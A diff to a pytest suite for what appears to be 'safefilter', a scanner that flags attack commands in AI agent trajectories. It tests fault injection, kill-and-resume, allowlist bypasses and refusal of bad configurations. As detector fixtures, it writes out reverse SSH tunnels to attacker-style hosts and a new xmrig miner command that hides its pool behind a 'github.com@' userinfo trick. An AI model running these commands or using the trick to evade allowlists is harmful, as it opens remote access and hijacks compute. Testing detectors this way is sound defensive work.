@@ -184,11 +184,12 @@ def _inject_and_repair(tmp_path: Path, small_run, op: str, code: int, every: int
     return report
 
 
-# Every site of every kind takes minutes on two cores: the default run takes every second open and
-# rename, every third fsync and every fourth site for EACCES (always the first and the last);
-# `-m slow` takes every site of each, and EIO on fsync.
-SWEEPS = [("open", errno.ENOSPC, 2), ("replace", errno.ENOSPC, 2), ("fsync", errno.ENOSPC, 3),
-          ("open", errno.EACCES, 4), ("replace", errno.EACCES, 4)]
+# Every site of every kind takes minutes on two cores: the default run takes every third open and
+# rename, every fifth fsync and every sixth site for EACCES (always the first and the last, and
+# the strides differ so that together they reach sites all through the run); `-m slow` takes
+# every site of each, and EIO on fsync.
+SWEEPS = [("open", errno.ENOSPC, 3), ("replace", errno.ENOSPC, 3), ("fsync", errno.ENOSPC, 5),
+          ("open", errno.EACCES, 6), ("replace", errno.EACCES, 6)]
 FULL_SWEEPS = [(op, code, 1) for op in ("open", "replace", "fsync") for code in (errno.ENOSPC, errno.EACCES)] + \
     [("fsync", errno.EIO, 1)]
 
@@ -285,16 +286,20 @@ KILL_POINTS = {
     "after the second file": lambda run: (run / "_state" / "input-00001.json").exists(),
     "while writing the manifest": lambda run: (run / "_state" / "input-00002.json").exists(),
 }
+QUICK_KILLS = ("after run.json", "after the first file", "while writing the manifest")
 
 
-def test_sigkill_at_every_stage_then_resume_is_identical(tmp_path):
+@pytest.mark.parametrize("points", [pytest.param(QUICK_KILLS, id="quick"),
+                                    pytest.param(tuple(KILL_POINTS), id="all", marks=pytest.mark.slow)])
+def test_sigkill_at_every_stage_then_resume_is_identical(tmp_path, points):
     inputs = make_inputs(tmp_path / "in", files=3)
     ref_config = write_config(tmp_path / "ref.yaml", str(tmp_path / "in"), tmp_path / "ref", batch_size=1)
     assert cli(["run", "--config", str(ref_config)])[0] == 0
     reference = run_files(tmp_path / "ref")
     env = {**os.environ, TEST_DELAY_ENV: "0.15", "PYTHONPATH": str(Path(__file__).parent.parent)}
     killed_partway = 0
-    for name, reached in KILL_POINTS.items():
+    for name in points:
+        reached = KILL_POINTS[name]
         run_dir = tmp_path / name.replace(" ", "-")
         config = write_config(tmp_path / f"{run_dir.name}.yaml", str(tmp_path / "in"), run_dir, batch_size=1)
         proc = subprocess.Popen([sys.executable, "-m", "safefilter", "run", "--config", str(config)],
@@ -318,7 +323,7 @@ def test_sigkill_at_every_stage_then_resume_is_identical(tmp_path):
         check_conservation(inputs, run_dir)
         assert not temporaries(run_dir)
         assert not (run_dir / "_state").exists()
-    assert killed_partway >= 3, "the kills did not land inside the run; raise the batch delay"
+    assert killed_partway >= len(points) - 1, "the kills did not land inside the run; raise the batch delay"
 
 
 # --- attackers and their honest twins ---
@@ -357,11 +362,12 @@ def test_allowlisted_host_as_a_comment_substring_or_prefix_does_not_excuse(scan_
         traj(bash("ssh -fNR 2222:localhost:22 deploy@github.com.evil.example"), rid="suffix-trick"),
         traj(bash("ssh -fNR 2222:localhost:22 deploy@10.0.0.50"), rid="ip-prefix"),
         traj(bash("ssh -fNR 2222:localhost:22 deploy@evilgithub.com"), rid="left-glued"),
+        traj(bash("./xmrig -o stratum+tcp://github.com@203.0.113.50:3333 -u WALLET"), rid="userinfo"),
     ]
     honest = [traj(bash("ssh -fNR 2222:localhost:22 deploy@10.0.0.5"), rid="listed-ip"),
               traj(bash("ssh -fNR 2222:localhost:22 git@github.com"), rid="listed-host")]
     got = scan_with(attacks + honest, **allow)
-    for rid in ("comment", "suffix-trick", "ip-prefix", "left-glued"):
+    for rid in ("comment", "suffix-trick", "ip-prefix", "left-glued", "userinfo"):
         assert got[rid] is not None, f"{rid}: an allowlisted host name excused an attack"
     assert got["listed-ip"] is None and got["listed-host"] is None
 
@@ -417,6 +423,8 @@ def test_a_record_cut_short_by_a_limit_is_not_clean(scan_with):
                     normalize={"max_decode_depth": 2})
     safety = got["deep"]
     assert safety is not None, "analysis stopped at a limit and the record passed as clean"
+    reasons = {item["reason"] for item in safety.get("analysis_incomplete", [])}
+    assert "decode_depth" in reasons, f"the safety object does not say that a limit cut analysis short: {safety}"
 
 
 def test_duplicate_ids_in_one_batch_are_each_scanned_by_every_detector():
@@ -475,4 +483,130 @@ def test_a_script_written_once_and_run_many_times_costs_linear_work():
     size = len(json.dumps(rec))
     prepared = Scanner.from_rules().prepare(rec, "loop")
     matched = sum(len(s.text) for s in prepared.segments)
-    assert matched <= 64 * size + 64 * 4096, f"{matched} characters to match for a {size}-byte record"
+    assert matched <= 64 * size + (1 << 20), f"{matched} characters to match for a {size}-byte record"
+
+
+# --- a user who mistypes: the wrong folder, the wrong config, a broken system ---
+
+def _project(root: Path) -> dict[str, tuple[int, int]]:
+    """A folder full of someone's work, the kind a mistyped --output lands on."""
+    (root / "dataset").mkdir(parents=True)
+    (root / "dataset" / "train.arrow").write_bytes(b"weeks of labeling")
+    (root / "cards").mkdir()
+    (root / "cards" / "clean.md").write_text("my own card")
+    (root / "clean").mkdir()
+    (root / "clean" / "notes.txt").write_text("not a shard")
+    (root / "manifest.json").write_text('{"mine": true}')
+    return tree(root)
+
+
+@pytest.mark.parametrize("overwrite", [False, True])
+def test_output_pointed_at_a_project_folder_touches_nothing(tmp_path, small_run, overwrite):
+    inputs_dir, _, _ = small_run
+    before = _project(tmp_path / "project")
+    config = write_config(tmp_path / "c.yaml", str(inputs_dir), tmp_path / "project", overwrite=overwrite)
+    code, _, err = cli(["run", "--config", str(config)])
+    assert_one_line_error(code, err)
+    assert tree(tmp_path / "project") == before
+
+
+@pytest.mark.parametrize("where", ["the input folder", "inside the input folder", "a parent of the input"])
+def test_output_that_is_inside_or_contains_the_input_is_refused(tmp_path, where):
+    inputs = make_inputs(tmp_path / "data" / "in")
+    output = {"the input folder": tmp_path / "data" / "in", "inside the input folder": tmp_path / "data" / "in" / "run",
+              "a parent of the input": tmp_path / "data"}[where]
+    before = tree(tmp_path / "data")
+    config = write_config(tmp_path / "c.yaml", str(tmp_path / "data" / "in"), output, overwrite=True)
+    code, _, err = cli(["run", "--config", str(config)])
+    assert_one_line_error(code, err)
+    assert tree(tmp_path / "data") == before
+    assert all(Path(p).read_bytes() == data for p, data in inputs.items())
+
+
+def test_a_second_run_into_a_busy_folder_is_refused_and_the_first_completes(tmp_path, small_run):
+    inputs_dir, inputs, reference = small_run
+    run_dir = tmp_path / "run"
+    config = write_config(tmp_path / "c.yaml", str(inputs_dir), run_dir, batch_size=2)
+    env = {**os.environ, TEST_DELAY_ENV: "0.3", "PYTHONPATH": str(Path(__file__).parent.parent)}
+    first = subprocess.Popen([sys.executable, "-m", "safefilter", "run", "--config", str(config)],
+                             env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    try:
+        assert _wait_for(lambda: (run_dir / "_state" / "run.json").exists(), first), "the first run never started"
+        for argv in (["run", "--config", str(config)], ["run", "--config", str(config), "--set", "overwrite=true"],
+                     ["run", "--config", str(config), "--resume"]):
+            code, _, err = cli(argv)
+            assert_one_line_error(code, err)
+    finally:
+        _, stderr = first.communicate(timeout=120)
+    assert first.returncode == 0, stderr.decode()
+    assert run_files(run_dir) == reference
+    check_conservation(inputs, run_dir)
+
+
+def test_from_manifest_without_output_keeps_the_original_run(tmp_path, small_run):
+    inputs_dir, _, reference = small_run
+    config = write_config(tmp_path / "c.yaml", str(inputs_dir), tmp_path / "run", overwrite=True)
+    assert cli(["run", "--config", str(config)])[0] == 0
+    before = tree(tmp_path / "run")
+    code, _, err = cli(["run", "--from-manifest", str(tmp_path / "run" / "manifest.json")])
+    if code != 0:
+        assert_one_line_error(code, err)
+    assert tree(tmp_path / "run") == before, "--from-manifest without --output rewrote the original run"
+
+
+def test_resume_refuses_an_edited_rule_pack(tmp_path):
+    make_inputs(tmp_path / "in", files=2)
+    pack = tmp_path / "pack.yaml"
+    pack.write_bytes(Path(__file__).with_name("data").joinpath("mini_pack.yaml").read_bytes())
+    run_dir = tmp_path / "run"
+    config = write_config(tmp_path / "c.yaml", str(tmp_path / "in"), run_dir, rules={"packs": [str(pack)]})
+    with pytest.MonkeyPatch.context() as mp:
+        Injector(run_dir, "replace", 4, errno.ENOSPC).install(mp)  # stop after the run has state
+        cli(["run", "--config", str(config)])
+    assert (run_dir / "_state" / "run.json").exists(), "the first run did not stop partway"
+    pack.write_text(pack.read_text().replace("severity: high", "severity: low"))
+    code, _, err = cli(["run", "--config", str(config), "--resume"])
+    assert_one_line_error(code, err)
+
+
+SHIPPED_MODEL = next((Path(__file__).parent.parent / "safefilter" / "models").glob("*/model.safetensors")).parent
+
+
+def _broken_model(folder: Path, damage: str) -> Path:
+    """A copy of the shipped classifier with one file damaged."""
+    import shutil
+
+    model = folder / f"model-{damage}"
+    shutil.copytree(SHIPPED_MODEL, model)
+    if damage == "weights":
+        data = (model / "model.safetensors").read_bytes()
+        (model / "model.safetensors").write_bytes(data[: len(data) // 3])
+    elif damage == "labels":
+        (model / "labels.json").write_text('{"labels": ')
+    elif damage == "thresholds":
+        (model / "thresholds.json").write_text('{"tunneling": "high"}')
+    return model
+
+
+@pytest.mark.parametrize("case", ["empty pack folder", "bad allowlist pattern", "truncated weights", "bad labels",
+                                  "bad thresholds", "missing device"])
+def test_a_broken_system_stops_before_the_first_record(tmp_path, small_run, case):
+    inputs_dir, _, _ = small_run
+    (tmp_path / "empty").mkdir()
+    sets = {
+        "empty pack folder": [f"rules.packs=[{tmp_path / 'empty'}]"],
+        "bad allowlist pattern": ["allowlist.commands=['(unclosed']"],
+        "truncated weights": ["classifier.enabled=true", f"classifier.model={_broken_model(tmp_path, 'weights')}"],
+        "bad labels": ["classifier.enabled=true", f"classifier.model={_broken_model(tmp_path, 'labels')}"],
+        "bad thresholds": ["classifier.enabled=true", f"classifier.model={_broken_model(tmp_path, 'thresholds')}"],
+        "missing device": ["classifier.enabled=true", "classifier.device=cuda"],
+    }[case]
+    if case == "missing device":
+        import torch
+
+        if torch.cuda.is_available():
+            pytest.skip("this machine has a GPU")
+    config = write_config(tmp_path / "c.yaml", str(inputs_dir), tmp_path / "run")
+    code, _, err = cli(["run", "--config", str(config), *[a for kv in sets for a in ("--set", kv)]])
+    assert_one_line_error(code, err)
+    assert not run_files(tmp_path / "run"), "a broken system wrote records before failing"
